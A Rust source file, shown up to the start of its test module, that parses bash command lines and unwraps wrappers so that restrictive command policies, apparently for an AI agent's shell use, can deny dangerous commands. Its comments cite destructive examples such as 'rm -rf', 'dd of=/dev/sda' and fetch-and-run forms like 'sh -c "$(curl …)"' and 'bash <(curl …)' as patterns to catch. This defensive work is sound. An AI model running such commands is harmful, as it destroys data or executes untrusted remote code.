//! A shell command line read as bash will run it.
//!
//! A rule about `rm` must see `rm` in `/bin/rm -rf x`, `sudo rm -rf x`, `sh -c 'rm -rf x'`,
//! `echo $(rm -rf x)` and `x && rm -fr x`. So the line is parsed by a real bash grammar
//! (`brush-parser`, the parser of the brush shell) and walked: pipelines, lists, subshells,
//! groups, loops and conditionals, command and process substitutions, and the strings given to
//! `bash -c`, `sh -c`, `eval`, `env -S`, `xargs` and `find -exec` (parsed again, up to
//! [`MAX_DEPTH`] levels). Wrappers (`sudo`, `env`, `nice`, `timeout`, …) are commands
//! themselves and also unwrap to the command they run. A program is named by its last path
//! component (`/bin/rm` is `rm`), and flags are split and spelled out (`-rf` is `-r -f`).
//!
//! What cannot be read is an error, never "no command": text the grammar rejects or a line
//! beyond the bounds below. The caller turns an error into a deny for any rule that
//! restricts. A program name computed at run time (`$cmd x`) is kept, marked
//! [`Command::unknown`]: a rule that names programs treats it the same way.

use std::borrow::Cow;

use brush_parser::ParserOptions;
use brush_parser::ast;
use brush_parser::word::{self, WordPiece, WordPieceWithSource};

/// Longest command line parsed, in bytes.
pub const MAX_COMMAND_BYTES: usize = 16 * 1024;
/// Deepest nesting of command strings (`sh -c`, `eval`, `$(…)`, backticks) followed.
pub const MAX_DEPTH: usize = 8;
/// Deepest bracket nesting (`(`, `{`, `[`, `$(`) in the text given to the parser. The grammar's
/// PEG parser backtracks exponentially on unclosed nested brackets (24 levels took 11 s in
/// the fuzzer), so this is kept low.
pub const MAX_NESTING: usize = 10;
/// Most simple commands in one line, nested ones included.
pub const MAX_COMMANDS: usize = 256;
/// Most words in one line, nested ones included.
pub const MAX_WORDS: usize = 4096;

/// One simple command, after unwrapping.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Command {
    /// The program's name: the last component of its path (`rm` for `/bin/rm`).
    pub name: String,
    /// The words after the program, quotes removed. A word whose value is only known at run
    /// time keeps its text with `$` (it can still be a path or a flag).
    pub args: Vec<String>,
    /// Single-letter flags, one per letter (`-rf` gives `r` and `f`).
    pub short: Vec<char>,
    /// Long flags without `--` and without `=value`.
    pub long: Vec<String>,
    /// Arguments that are not flags (everything after `--` included).
    pub operands: Vec<String>,
    /// Files redirected to or from: (target, written).
    pub redirects: Vec<(String, bool)>,
    /// Its position in its pipeline (0 for the first) and whether it reads another command's
    /// output through a pipe.
    pub stage: usize,
    /// Index into [`Line::pipelines`] of the pipeline it belongs to.
    pub pipeline: usize,
    /// How deep in nested command strings it was found (0 for the line itself).
    pub depth: usize,
    /// It runs a command string built from a command substitution containing these programs
    /// (`sh -c "$(curl …)"`, `eval "$(wget …)"`, `bash <(curl …)`).
    pub runs_output_of: Vec<String>,
    /// It was found as the wrapper of another command (`sudo` in `sudo rm`).
    pub wrapper: bool,
    /// The program's name is only known when the line runs (`$cmd x`, `$(echo rm) x`):
    /// [`Command::name`] is then the word as written, and no rule can say it is not `rm`.
    pub unknown: bool,
}

impl Command {
    /// Whether the command has the flag `short` (one letter) or `--long`.
    pub fn has(&self, short: &[char], long: &[&str]) -> bool {
        self.short.iter().any(|c| short.contains(c))
            || self.long.iter().any(|l| long.contains(&&**l))
    }
}

/// Everything found in one line.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Line {
    /// Every simple command in the order they appear, nested ones after their host.
    pub commands: Vec<Command>,
    /// How many pipelines there are.
    pub pipelines: usize,
}

/// Parse `text` as bash and list its commands.
pub fn parse(text: &str) -> Result<Line, String> {
    walk(text, true)
}

/// [`parse`] without the plain-line fast path: every line through the bash grammar. For the
/// differential test and fuzz target that hold the two equal.
#[doc(hidden)]
pub fn parse_with_grammar_only(text: &str) -> Result<Line, String> {
    walk(text, false)
}

fn walk(text: &str, fast: bool) -> Result<Line, String> {
    if text.len() > MAX_COMMAND_BYTES {
        return Err(format!(
            "the command is {} bytes; the limit is {MAX_COMMAND_BYTES}",
            text.len()
        ));
    }
    let mut walker = Walker {
        line: Line::default(),
        words: 0,
        options: ParserOptions::default(),
        fast,
    };
    walker.text(text, 0)?;
    Ok(walker.line)
}

struct Walker {
    line: Line,
    words: usize,
    options: ParserOptions,
    /// Read plain lines without the grammar (see [`plain`]).
    fast: bool,
}

/// Words that start a compound command or change how the next words are read: a line with one
/// of them in command position goes to the grammar.
const RESERVED: &[&str] = &[
    "if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case", "esac",
    "in", "function", "select", "time", "coproc", "!", "{", "}", "[[", "]]",
];

/// One simple command of a plain line: its words and its redirections.
type Plain<'t> = (Vec<Cow<'t, str>>, Vec<(String, bool)>);

/// Bytes of a plain word outside quotes.
fn plain_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric()
        || matches!(
            b,
            b'_' | b'-' | b'.' | b'/' | b',' | b':' | b'=' | b'@' | b'%' | b'+'
        )
}

/// One word of a plain line starting at `bytes[i]`: plain bytes, `'…'` (anything but `'`
/// and a newline) and `"…"` (anything but `"`, `$`, `` ` ``, `\`, `!` and a newline — what
/// bash would expand or unescape there), glued together. Returns its value (quotes removed),
/// whether it had quotes, and where it ends; `None` for anything else.
fn plain_word(text: &str, mut i: usize) -> Option<(Cow<'_, str>, bool, usize)> {
    let bytes = text.as_bytes();
    let start = i;
    let mut value: Option<String> = None;
    let mut run = i;
    while i < bytes.len() {
        let b = bytes[i];
        if plain_byte(b) {
            i += 1;
            continue;
        }
        let (quote, stop): (u8, &[u8]) = match b {
            b'\'' => (b'\'', b"\n"),
            b'"' => (b'"', b"$`\\!\n"),
            _ => break,
        };
        let v = value.get_or_insert_with(String::new);
        v.push_str(&text[run..i]);
        let open = i + 1;
        let close = open + bytes[open..].iter().position(|c| *c == quote)?;
        if bytes[open..close].iter().any(|c| stop.contains(c)) {
            return None;
        }
        v.push_str(&text[open..close]);
        i = close + 1;
        run = i;
    }
    if i == start {
        return None;
    }
    Some(match value {
        None => (Cow::Borrowed(&text[start..i]), false, i),
        Some(mut v) => {
            v.push_str(&text[run..i]);
            // An empty quoted word (`''`) is left to the grammar.
            if v.is_empty() {
                return None;
            }
            (Cow::Owned(v), true, i)
        }
    })
}

/// The commands of a *plain* line — words of letters, digits and `_-./,:=@%+` and quoted
/// text without expansions (see [`plain_word`]), joined by `|`, `&&`, `||`, `;`, `&`, with
/// `>`/`>>` redirections (optionally from a file descriptor number), `2>&1`-style
/// duplications and `&>` — grouped by pipeline; `None` for anything else (`$`, globs,
/// brackets, `<`, `#`, a backslash, a reserved word, an assignment, an empty command), which
/// the grammar reads. Parsing a typical agent command with the grammar costs ~7 µs; this takes
/// a fraction of it. A differential test and the `shell_command` fuzz target hold it to the
/// grammar's reading wherever it answers.
fn plain(text: &str) -> Option<Vec<Vec<Plain<'_>>>> {
    let bytes = text.as_bytes();
    let mut pipelines: Vec<Vec<Plain>> = vec![vec![(Vec::new(), Vec::new())]];
    let mut i = 0;
    // A redirection waiting for its target: written to (always, `>`/`>>`/`&>`).
    let mut pending_target = false;
    let end_command = |p: &mut Vec<Vec<Plain>>| -> Option<()> {
        let cmd = p.last()?.last()?;
        (!cmd.0.is_empty()).then_some(())
    };
    while i < bytes.len() {
        let b = bytes[i];
        match b {
            b' ' | b'\t' => i += 1,
            b'|' | b'&' | b';' => {
                if pending_target {
                    return None;
                }
                let two = bytes.get(i + 1).copied();
                if b == b'&' && two == Some(b'>') {
                    // `&> file`
                    if bytes.get(i + 2) == Some(&b'>') || bytes.get(i + 2) == Some(&b'&') {
                        return None;
                    }
                    pending_target = true;
                    i += 2;
                    continue;
                }
                end_command(&mut pipelines)?;
                match (b, two) {
                    (b'|', Some(b'|')) | (b'&', Some(b'&')) => {
                        i += 2;
                        pipelines.push(vec![(Vec::new(), Vec::new())]);
                    }
                    (b'|', Some(b'&')) | (b';', Some(b';')) | (b';', Some(b'&')) => return None,
                    (b'|', _) => {
                        i += 1;
                        pipelines.last_mut()?.push((Vec::new(), Vec::new()));
                    }
                    _ => {
                        i += 1;
                        // `;` or `&` may end the line.
                        let rest = text[i..].trim_start();
                        if !rest.is_empty() {
                            pipelines.push(vec![(Vec::new(), Vec::new())]);
                        }
                    }
                }
            }
            b'>' => {
                if pending_target {
                    return None;
                }
                i += 1;
                match bytes.get(i) {
                    Some(b'>') => i += 1,
                    Some(b'&') => {
                        // `>&2`: a duplication, no file.
                        let start = i + 1;
                        let mut j = start;
                        while j < bytes.len() && bytes[j].is_ascii_digit() {
                            j += 1;
                        }
                        if j == start
                            || (j < bytes.len()
                                && (plain_byte(bytes[j]) || bytes[j] == b'"' || bytes[j] == b'\''))
                        {
                            return None;
                        }
                        i = j;
                        continue;
                    }
                    Some(b'|') => return None,
                    _ => {}
                }
                pending_target = true;
            }
            _ => {
                let start = i;
                let (word, quoted, end) = plain_word(text, i)?;
                i = end;
                if !quoted
                    && bytes.get(i) == Some(&b'>')
                    && text[start..i].bytes().all(|d| d.is_ascii_digit())
                {
                    // `2>` / `2>>` / `2>&1`: the number is a file descriptor.
                    continue;
                }
                let cmd = pipelines.last_mut()?.last_mut()?;
                if pending_target {
                    cmd.1.push((word.into_owned(), true));
                    pending_target = false;
                } else {
                    if cmd.0.is_empty()
                        && (text[start..i].contains('=') || RESERVED.contains(&&*word))
                    {
                        return None;
                    }
                    cmd.0.push(word);
                }
            }
        }
    }
    if pending_target {
        return None;
    }
    // The last command may be empty only after a final `;` or `&`, which pushed nothing.
    let last = pipelines.last()?;
    if last.iter().any(|c| c.0.is_empty()) || pipelines.iter().flatten().any(|c| c.0.is_empty()) {
        return None;
    }
    Some(pipelines)
}

/// Where a simple command sits.
#[derive(Clone, Copy)]
struct At {
    depth: usize,
    pipeline: usize,
    stage: usize,
}

/// A run of more than 9 digits right before `<` or `>` (a file descriptor no system has).
fn huge_fd(text: &str) -> Option<&str> {
    let bytes = text.as_bytes();
    for (i, b) in bytes.iter().enumerate() {
        if matches!(b, b'<' | b'>') {
            let start = bytes[..i]
                .iter()
                .rposition(|d| !d.is_ascii_digit())
                .map_or(0, |p| p + 1);
            if i - start > 9 {
                return Some(&text[start..i]);
            }
        }
    }
    None
}

/// A `~`, `~+` or `~-` followed by more than 9 digits (a directory-stack index no shell has).
fn huge_tilde_index(text: &str) -> Option<&str> {
    let bytes = text.as_bytes();
    for (i, b) in bytes.iter().enumerate() {
        if *b == b'~' {
            let mut j = i + 1;
            if matches!(bytes.get(j), Some(b'+' | b'-')) {
                j += 1;
            }
            let digits = bytes[j..].iter().take_while(|d| d.is_ascii_digit()).count();
            if digits > 9 {
                return Some(&text[i..j + digits]);
            }
        }
    }
    None
}

/// Whether a `<<` or `<<-` (not `<<<`) lacks a plain delimiter: ASCII letters, digits or
/// `_-.,:/+=%@!?*~^`, escaped bytes and quoted text without expansions, at most one blank after
/// the `<<` when the line has a `$(` or `$[`, and not followed by `(`.
///
/// brush-parser 0.4 takes the delimiter with the quotes and leading blanks removed, and at the
/// end of the text strips it off the body until the body no longer ends with it — forever, when
/// the delimiter is empty. It comes out empty in more ways than a quote-only word (`<<""`):
/// inside `$(…)` and `$[…]` blanks are kept in words, so `$(<<  x ` takes the second blank
/// alone as the delimiter, and a delimiter that opens an expansion (`<<$[  `, `<<${ ""}`) is
/// read with the here-document still pending. Real delimiters are plain words (`EOF`,
/// `'EOF'`, `\EOF`); anything else is refused rather than handed to the parser.
fn heredoc_without_delimiter(text: &str) -> bool {
    let bytes = text.as_bytes();
    let keeps_blanks = text.contains("$(") || text.contains("$[");
    let mut i = 0;
    while i + 1 < bytes.len() {
        if bytes[i] != b'<' || bytes[i + 1] != b'<' {
            i += 1;
            continue;
        }
        if bytes.get(i + 2) == Some(&b'<') {
            // `\<<<` is an escaped `<` and then `<<`, which is checked on the next step.
            i += if i > 0 && bytes[i - 1] == b'\\' { 1 } else { 3 };
            continue;
        }
        let mut j = i + 2;
        if bytes.get(j) == Some(&b'-') {
            j += 1;
        }
        let blanks = j;
        while j < bytes.len() && matches!(bytes[j], b' ' | b'\t') {
            j += 1;
        }
        if keeps_blanks && j - blanks > 1 {
            return true;
        }
        // The word as the parser would read it if this `<<` is an operator (it may instead
        // sit in a quoted string; reading it as an operator then only costs a refusal):
        // plain bytes, escaped bytes, single-quoted text, double-quoted text without `$` or
        // `` ` ``; it ends at a blank, a newline or an operator other than `(`. A quote
        // that never closes makes the parser fail before it looks for a body: no loop.
        let plain = |b: u8| b.is_ascii_alphanumeric() || b"_-.,:/+=%@!?*~^".contains(&b);
        let mut saw_plain = false;
        let mut unclosed = false;
        loop {
            match bytes.get(j).copied() {
                None | Some(b' ' | b'\t' | b'\n' | b';' | b'|' | b'&' | b'<' | b'>' | b')') => {
                    break;
                }
                Some(b) if plain(b) => {
                    saw_plain = true;
                    j += 1;
                }
                Some(b'\\') => match bytes.get(j + 1) {
                    // A backslash-newline joins the next line to the word.
                    Some(b'\n') => return true,
                    Some(_) => {
                        saw_plain = true;
                        j += 2;
                    }
                    None => {
                        unclosed = true;
                        break;
                    }
                },
                Some(b'\'') => match bytes[j + 1..].iter().position(|&b| b == b'\'') {
                    Some(len) => {
                        saw_plain |= len > 0;
                        j += len + 2;
                    }
                    None => {
                        unclosed = true;
                        break;
                    }
                },
                Some(b'"') => {
                    let mut k = j + 1;
                    loop {
                        match bytes.get(k) {
                            Some(b'"') => break,
                            Some(b'$' | b'`') => return true,
                            Some(b'\\') => k += 2,
                            Some(_) => k += 1,
                            None => {
                                unclosed = true;
                                break;
                            }
                        }
                    }
                    if unclosed {
                        break;
                    }
                    saw_plain |= k > j + 1;
                    j = k + 1;
                }
                Some(_) => return true,
            }
        }
        if !saw_plain && !unclosed {
            return true;
        }
        i = j.max(i + 2);
    }
    false
}

fn nesting(text: &str) -> usize {
    let (mut depth, mut max) = (0usize, 0usize);
    for b in text.bytes() {
        match b {
            b'(' | b'{' | b'[' => {
                depth += 1;
                max = max.max(depth);
            }
            b')' | b'}' | b']' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    max
}

impl Walker {
    fn text(&mut self, text: &str, depth: usize) -> Result<(), String> {
        if depth > MAX_DEPTH {
            return Err(format!(
                "command strings are nested more than {MAX_DEPTH} deep"
            ));
        }
        // INVARIANT: brush-parser 0.4 unwraps the parse of a file descriptor number written
        // before `<`/`>` (`99999999999>x` panics); such numbers are refused first.
        if let Some(fd) = huge_fd(text) {
            return Err(format!("the file descriptor number `{fd}` is too large"));
        }
        // INVARIANT: brush-parser 0.4 unwraps the parse of a directory-stack index after `~`
        // (`~55555555555555555555` panics); such indexes are refused first.
        if let Some(t) = huge_tilde_index(text) {
            return Err(format!("the directory-stack index `{t}` is too large"));
        }
        // INVARIANT: brush-parser 0.4 allocates without end on an unterminated here-document
        // whose delimiter it reads as empty (`$(a << \t`, `a <<"" x  `, `$(<<  x `,
        // `<<$[  `); a `<<` must be followed by a plain delimiter word.
        if heredoc_without_delimiter(text) {
            return Err(
                "a here-document (`<<`) has no plain delimiter word (such as EOF or 'EOF') \
                 right after it"
                    .into(),
            );
        }
        // INVARIANT: the parser recurses on brackets; bounding them bounds its stack. Checked
        // before the fast path too (which counts brackets in quotes alike), so both paths
        // refuse the same lines.
        if nesting(text) > MAX_NESTING {
            return Err(format!("brackets are nested more than {MAX_NESTING} deep"));
        }
        if self.fast
            && let Some(pipelines) = plain(text)
        {
            for commands in pipelines {
                let pipeline = self.line.pipelines;
                self.line.pipelines += 1;
                for (stage, (words, redirects)) in commands.into_iter().enumerate() {
                    self.words += words.len() + redirects.len();
                    if self.words > MAX_WORDS {
                        return Err(format!("the command has more than {MAX_WORDS} words"));
                    }
                    let words = words.into_iter().map(|w| (w.into_owned(), false)).collect();
                    let at = At {
                        depth,
                        pipeline,
                        stage,
                    };
                    self.invocation(words, redirects, Vec::new(), at)?;
                }
            }
            return Ok(());
        }
        let mut parser =
            brush_parser::Parser::new(std::io::BufReader::new(text.as_bytes()), &self.options);
        let program = parser
            .parse_program()
            .map_err(|e| format!("the command is not valid shell: {e}"))?;
        for complete in &program.complete_commands {
            self.compound_list(complete, depth)?;
        }
        Ok(())
    }

    fn compound_list(&mut self, list: &ast::CompoundList, depth: usize) -> Result<(), String> {
        for ast::CompoundListItem(and_or, _) in &list.0 {
            self.pipeline(&and_or.first, depth)?;
            for next in &and_or.additional {
                let (ast::AndOr::And(p) | ast::AndOr::Or(p)) = next;
                self.pipeline(p, depth)?;
            }
        }
        Ok(())
    }

    fn pipeline(&mut self, p: &ast::Pipeline, depth: usize) -> Result<(), String> {
        let pipeline = self.line.pipelines;
        self.line.pipelines += 1;
        for (stage, cmd) in p.seq.iter().enumerate() {
            self.command(
                cmd,
                At {
                    depth,
                    pipeline,
                    stage,
                },
            )?;
        }
        Ok(())
    }

    fn command(&mut self, cmd: &ast::Command, at: At) -> Result<(), String> {
        match cmd {
            ast::Command::Simple(s) => self.simple(s, at),
            ast::Command::Compound(c, redirects) => {
                self.compound(c, at)?;
                if let Some(r) = redirects {
                    self.redirects_only(&r.0, at)?;
                }
                Ok(())
            }
            ast::Command::Function(f) => self.compound(&f.body.0, at),
            ast::Command::ExtendedTest(_, _) => Ok(()),
        }
    }

    fn compound(&mut self, c: &ast::CompoundCommand, at: At) -> Result<(), String> {
        let d = at.depth;
        match c {
            ast::CompoundCommand::BraceGroup(g) => self.compound_list(&g.list, d),
            ast::CompoundCommand::Subshell(s) => self.compound_list(&s.list, d),
            ast::CompoundCommand::ForClause(f) => {
                for w in f.values.iter().flatten() {
                    self.word(&w.value, d)?;
                }
                self.compound_list(&f.body.list, d)
            }
            ast::CompoundCommand::CaseClause(c) => {
                self.word(&c.value.value, d)?;
                for item in &c.cases {
                    if let Some(list) = &item.cmd {
                        self.compound_list(list, d)?;
                    }
                }
                Ok(())
            }
            ast::CompoundCommand::IfClause(i) => {
                self.compound_list(&i.condition, d)?;
                self.compound_list(&i.then, d)?;
                for e in i.elses.iter().flatten() {
                    if let Some(c) = &e.condition {
                        self.compound_list(c, d)?;
                    }
                    self.compound_list(&e.body, d)?;
                }
                Ok(())
            }
            ast::CompoundCommand::WhileClause(w) | ast::CompoundCommand::UntilClause(w) => {
                self.compound_list(&w.0, d)?;
                self.compound_list(&w.1.list, d)
            }
            ast::CompoundCommand::ArithmeticForClause(f) => self.compound_list(&f.body.list, d),
            ast::CompoundCommand::Coprocess(c) => self.command(&c.body, at),
            ast::CompoundCommand::Arithmetic(_) => Ok(()),
        }
    }

    /// Redirections of a compound command (`{ …; } > file`): no command of their own.
    fn redirects_only(&mut self, redirects: &[ast::IoRedirect], at: At) -> Result<(), String> {
        let mut sink = Vec::new();
        for r in redirects {
            self.redirect(r, at.depth, &mut sink, &mut Vec::new())?;
        }
        if !sink.is_empty()
            && let Some(last) = self.line.commands.last_mut()
        {
            last.redirects.extend(sink);
        }
        Ok(())
    }

    fn redirect(
        &mut self,
        r: &ast::IoRedirect,
        depth: usize,
        out: &mut Vec<(String, bool)>,
        subs: &mut Vec<String>,
    ) -> Result<(), String> {
        match r {
            ast::IoRedirect::File(_, kind, target) => match target {
                ast::IoFileRedirectTarget::Filename(w) => {
                    let written = !matches!(kind, ast::IoFileRedirectKind::Read);
                    let (text, _) = self.word(&w.value, depth)?;
                    out.push((text, written));
                }
                ast::IoFileRedirectTarget::ProcessSubstitution(_, s) => {
                    let before = self.line.commands.len();
                    self.compound_list(&s.list, depth + 1)?;
                    subs.extend(self.names_since(before));
                }
                ast::IoFileRedirectTarget::Fd(_) | ast::IoFileRedirectTarget::Duplicate(_) => {}
            },
            ast::IoRedirect::OutputAndError(w, _) => {
                let (text, _) = self.word(&w.value, depth)?;
                out.push((text, true));
            }
            ast::IoRedirect::HereString(_, w) => {
                self.word(&w.value, depth)?;
            }
            ast::IoRedirect::HereDocument(_, doc) => {
                if doc.requires_expansion {
                    self.word(&doc.doc.value, depth)?;
                }
            }
        }
        Ok(())
    }

    fn names_since(&self, from: usize) -> Vec<String> {
        self.line.commands[from..]
            .iter()
            .map(|c| c.name.clone())
            .collect()
    }

    /// A word's value with quotes removed, and whether part of it is only known at run time.
    /// Command substitutions inside it are parsed as commands of their own.
    fn word(&mut self, raw: &str, depth: usize) -> Result<(String, bool), String> {
        self.words += 1;
        if self.words > MAX_WORDS {
            return Err(format!("the command has more than {MAX_WORDS} words"));
        }
        // Most words are plain (`git`, `--short`, `src/lib.rs`): nothing in them that bash
        // would expand or unquote, so their value is their text.
        if raw.bytes().all(|b| {
            b.is_ascii_alphanumeric()
                || matches!(
                    b,
                    b'_' | b'-' | b'.' | b'/' | b',' | b':' | b'=' | b'@' | b'%' | b'+'
                )
        }) {
            return Ok((raw.to_string(), false));
        }
        let pieces = word::parse(raw, &self.options)
            .map_err(|e| format!("the word `{raw}` is not valid shell: {e}"))?;
        let mut out = String::new();
        let mut dynamic = false;
        self.pieces(&pieces, depth, &mut out, &mut dynamic)?;
        Ok((out, dynamic))
    }

    fn pieces(
        &mut self,
        pieces: &[WordPieceWithSource],
        depth: usize,
        out: &mut String,
        dynamic: &mut bool,
    ) -> Result<(), String> {
        for p in pieces {
            match &p.piece {
                WordPiece::Text(t) | WordPiece::SingleQuotedText(t) => out.push_str(t),
                WordPiece::AnsiCQuotedText(t) => {
                    // `$'\x72m'` is `rm`: its value is only known after escapes.
                    out.push_str(t);
                    *dynamic |= t.contains('\\');
                }
                WordPiece::EscapeSequence(t) => out.push_str(t.trim_start_matches('\\')),
                WordPiece::DoubleQuotedSequence(inner)
                | WordPiece::GettextDoubleQuotedSequence(inner) => {
                    self.pieces(inner, depth, out, dynamic)?;
                }
                WordPiece::TildeExpansion(t) => {
                    out.push('~');
                    if let word::TildeExpr::UserHome(u) = t {
                        out.push_str(u);
                    } else if !matches!(t, word::TildeExpr::Home) {
                        *dynamic = true;
                    }
                }
                WordPiece::ParameterExpansion(_) | WordPiece::ArithmeticExpression(_) => {
                    out.push('$');
                    *dynamic = true;
                }
                WordPiece::CommandSubstitution(inner)
                | WordPiece::BackquotedCommandSubstitution(inner) => {
                    let before = self.line.commands.len();
                    self.text(inner, depth + 1)?;
                    let names = self.names_since(before);
                    out.push_str("$(");
                    out.push_str(&names.join(" "));
                    out.push(')');
                    *dynamic = true;
                }
            }
        }
        Ok(())
    }

    fn simple(&mut self, s: &ast::SimpleCommand, at: At) -> Result<(), String> {
        let mut words: Vec<(String, bool)> = Vec::new();
        let mut redirects = Vec::new();
        let mut subs = Vec::new();
        let mut named = false;
        let items = s
            .prefix
            .iter()
            .flat_map(|p| p.0.iter())
            .map(Some)
            .chain(std::iter::once(None))
            .chain(s.suffix.iter().flat_map(|p| p.0.iter()).map(Some));
        for item in items {
            match item {
                None => {
                    named = true;
                    if let Some(w) = &s.word_or_name {
                        let before = self.line.commands.len();
                        let word = self.word(&w.value, at.depth)?;
                        subs.extend(self.names_since(before));
                        words.push(word);
                    }
                }
                Some(ast::CommandPrefixOrSuffixItem::Word(w)) => {
                    let before = self.line.commands.len();
                    let word = self.word(&w.value, at.depth)?;
                    subs.extend(self.names_since(before));
                    words.push(word);
                }
                Some(ast::CommandPrefixOrSuffixItem::IoRedirect(r)) => {
                    self.redirect(r, at.depth, &mut redirects, &mut subs)?;
                }
                Some(ast::CommandPrefixOrSuffixItem::AssignmentWord(_, w)) => {
                    // Before the program, `X=$(cmd) prog`: the substitution runs. After it
                    // (`dd of=/dev/sda`, `env A=1 rm`), an argument like any other.
                    let word = self.word(&w.value, at.depth)?;
                    if named {
                        words.push(word);
                    }
                }
                Some(ast::CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub)) => {
                    let before = self.line.commands.len();
                    self.compound_list(&sub.list, at.depth + 1)?;
                    subs.extend(self.names_since(before));
                    words.push(("/dev/fd/63".into(), true));
                }
            }
        }
        if words.is_empty() {
            // Only assignments or redirections (`> file`): no program runs, the files count.
            if !redirects.is_empty() {
                self.push(Command {
                    name: String::new(),
                    args: Vec::new(),
                    short: Vec::new(),
                    long: Vec::new(),
                    operands: Vec::new(),
                    redirects,
                    stage: at.stage,
                    pipeline: at.pipeline,
                    depth: at.depth,
                    runs_output_of: Vec::new(),
                    wrapper: false,
                    unknown: false,
                })?;
            }
            return Ok(());
        }
        self.invocation(words, redirects, subs, at)
    }

    fn push(&mut self, c: Command) -> Result<(), String> {
        if self.line.commands.len() >= MAX_COMMANDS {
            return Err(format!("the command has more than {MAX_COMMANDS} commands"));
        }
        self.line.commands.push(c);
        Ok(())
    }

    /// One program with its words; unwraps wrappers and command strings.
    fn invocation(
        &mut self,
        words: Vec<(String, bool)>,
        redirects: Vec<(String, bool)>,
        subs: Vec<String>,
        at: At,
    ) -> Result<(), String> {
        let (program, dynamic) = &words[0];
        let name = if *dynamic {
            program.clone()
        } else {
            program.rsplit('/').next().unwrap_or(program).to_string()
        };
        if name.is_empty() {
            return Err(format!("`{program}` is not a program name"));
        }
        let args: Vec<String> = words[1..].iter().map(|(w, _)| w.clone()).collect();
        let (short, long, operands) = flags(&args);
        let inner = if *dynamic { None } else { unwrap(&name, &args) };
        let interpreter = INTERPRETERS.contains(&name.as_str()) || name == "eval";
        let cmd = Command {
            name,
            args,
            short,
            long,
            operands,
            redirects,
            stage: at.stage,
            pipeline: at.pipeline,
            depth: at.depth,
            runs_output_of: if interpreter { subs } else { Vec::new() },
            wrapper: inner.is_some(),
            unknown: *dynamic,
        };
        self.push(cmd)?;
        match inner {
            None => Ok(()),
            Some(Inner::Words(rest)) => {
                let rest: Vec<(String, bool)> = rest.into_iter().map(|w| (w, false)).collect();
                if rest.is_empty() {
                    return Ok(());
                }
                self.invocation(rest, Vec::new(), Vec::new(), at)
            }
            Some(Inner::Script(script)) => self.text(&script, at.depth + 1),
        }
    }
}

/// Programs that run a script given as text or on standard input.
pub const INTERPRETERS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "busybox", "fish", "python", "python3",
    "python2", "perl", "ruby", "node", "php", "pwsh",
];

enum Inner {
    /// A command given as separate words (`sudo rm -rf x`).
    Words(Vec<String>),
    /// A command given as one string of shell (`sh -c 'rm -rf x'`).
    Script(String),
}

/// Options of a wrapper that take a value in the next word.
fn wrapper_options(name: &str) -> Option<&'static [&'static str]> {
    Some(match name {
        "sudo" | "doas" => &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T"],
        "env" => &["-u", "-C", "--unset", "--chdir"],
        "nice" => &["-n", "--adjustment"],
        "timeout" => &["-s", "-k", "--signal", "--kill-after"],
        "exec" => &["-a"],
        "xargs" => &["-I", "-n", "-P", "-L", "-s", "-d", "-E", "-a", "--max-args"],
        "stdbuf" => &["-i", "-o", "-e"],
        "ionice" => &["-c", "-n", "-p"],
        "time" => &["-f", "-o"],
        "command" | "builtin" | "nohup" | "setsid" | "chroot" | "unbuffer" => &[],
        _ => return None,
    })
}

/// What a wrapper or an interpreter runs, if anything.
fn unwrap(name: &str, args: &[String]) -> Option<Inner> {
    if name == "eval" {
        return Some(Inner::Script(args.join(" ")));
    }
    if matches!(
        name,
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "mksh" | "ash"
    ) {
        // `-c STRING` (possibly in a cluster such as `-lc`).
        let mut i = 0;
        while i < args.len() {
            let a = &args[i];
            if a.starts_with('-') && !a.starts_with("--") && a.contains('c') {
                return args.get(i + 1).map(|s| Inner::Script(s.clone()));
            }
            if !a.starts_with('-') && !a.starts_with('+') {
                return None;
            }
            i += 1;
        }
        return None;
    }
    if name == "find" {
        let start = args
            .iter()
            .position(|a| matches!(a.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir"))?;
        let rest: Vec<String> = args[start + 1..]
            .iter()
            .take_while(|a| *a != ";" && *a != "+")
            .cloned()
            .collect();
        return Some(Inner::Words(rest));
    }
    let with_value = wrapper_options(name)?;
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        if a == "--" {
            i += 1;
            break;
        }
        if name == "env" && (a == "-S" || a == "--split-string") {
            return args.get(i + 1).map(|s| Inner::Script(s.clone()));
        }
        if name == "env" && !a.starts_with('-') && a.contains('=') {
            i += 1;
            continue;
        }
        if a.starts_with('-') && a.len() > 1 {
            let key = a.split('=').next().unwrap_or(a);
            i += if with_value.contains(&key) && !a.contains('=') {
                2
            } else {
                1
            };
            continue;
        }
        break;
    }
    if name == "timeout" {
        i += 1; // the duration
    }
    if name == "chroot" {
        i += 1; // the new root
    }
    Some(Inner::Words(args.get(i..).unwrap_or_default().to_vec()))
}

/// Long names of common single-letter flags, so `--recursive --force` reads as `-r -f`.
const LONG_TO_SHORT: &[(&str, char)] = &[
    ("recursive", 'r'),
    ("force", 'f'),
    ("data", 'd'),
    ("upload-file", 'T'),
    ("form", 'F'),
    ("output", 'o'),
    ("remote-name", 'O'),
];

/// Split arguments into single-letter flags, long flags and operands. `-rf` is `-r -f`;
/// `--recursive` is also recorded as `-r` (and `-r` is not turned into `--recursive`).
fn flags(args: &[String]) -> (Vec<char>, Vec<String>, Vec<String>) {
    let (mut short, mut long, mut operands) = (Vec::new(), Vec::new(), Vec::new());
    let mut rest_are_operands = false;
    for a in args {
        if rest_are_operands || a == "-" || !a.starts_with('-') {
            operands.push(a.clone());
        } else if a == "--" {
            rest_are_operands = true;
        } else if let Some(l) = a.strip_prefix("--") {
            let name = l.split('=').next().unwrap_or(l).to_string();
            if let Some((_, c)) = LONG_TO_SHORT.iter().find(|(n, _)| *n == name) {
                short.push(*c);
            }
            long.push(name);
        } else {
            short.extend(a[1..].chars().take_while(char::is_ascii_alphanumeric));
        }
    }
    (short, long, operands)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(text: &str) -> Vec<String> {
        parse(text)
            .unwrap()
            .commands
            .into_iter()
            .map(|c| c.name)
            .collect()
    }

    /// Quoted text with nothing to expand is read without the grammar (the speed budget of a
